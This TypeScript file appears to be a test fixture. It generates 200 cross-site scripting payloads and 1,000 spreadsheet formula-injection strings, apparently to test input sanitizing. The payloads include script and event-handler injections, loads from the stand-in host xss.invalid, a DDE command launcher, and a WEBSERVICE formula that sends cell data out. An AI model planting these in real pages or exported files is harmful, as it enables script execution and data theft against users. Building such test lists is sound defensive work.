/** Two hundred texts that act where a text is taken for markup: what acts, behind what ends the place where it stands. */
const ends = [
  "",
  '">',
  "'>",
  "</title>",
  "</script>",
  "</style>",
  "</svg>",
  "-->",
  "</textarea>",
  "` onmouseover=xss(0) `"
];

const acts = [
  "<script>xss(1)</script>",
  "<script src=//xss.invalid/2></script>",
  "<img src=x onerror=xss(3)>",
  "<img src=//xss.invalid/4>",
  "<svg onload=xss(5)></svg>",
  "<svg><script>xss(6)</script></svg>",
  "<svg><animate onbegin=xss(7) attributeName=x></svg>",
  "<iframe srcdoc='<script>parent.xss(8)</script>'></iframe>",
  "<iframe src=javascript:parent.xss(9)></iframe>",
  "<details open ontoggle=xss(10)>",
  "<input autofocus onfocus=xss(11)>",
  "<video><source onerror=xss(12)></video>",
  "<a href=javascript:xss(13) id=xss>her</a>",
  "<form action=//xss.invalid/14><button id=xss>",
  "<base href=//xss.invalid/15/>",
  "<meta http-equiv=refresh content='0;url=//xss.invalid/16'>",
  "<link rel=stylesheet href=//xss.invalid/17>",
  "<style>@import '//xss.invalid/18'</style>",
  "<object data=//xss.invalid/19></object>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=xss(20)></style></math>"
];

export const payloads: readonly string[] = ends.flatMap((end) => acts.map((act) => end + act));

const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"];
const formulas = [
  "1+1",
  "cmd|'/c calc'!A0",
  'HYPERLINK("http://xss.invalid","klik")',
  "SUM(A1:A9)",
  'WEBSERVICE("http://xss.invalid/"&A1)',
  'IMPORTXML("http://xss.invalid","//a")',
  "DDE(0;1;2)",
  "-1+1",
  "A1",
  "@SUM(1)",
  "INDIRECT(A1)",
  "1,5*2"
];

/** A thousand texts that a spreadsheet may take for a formula. */
export const formulaTexts: readonly string[] = starts
  .flatMap((start) =>
    formulas.flatMap((formula) => ["", ";", '"', " ", "'", "x", "1"].map((end) => start + formula + end))
  )
  .slice(0, 1000);
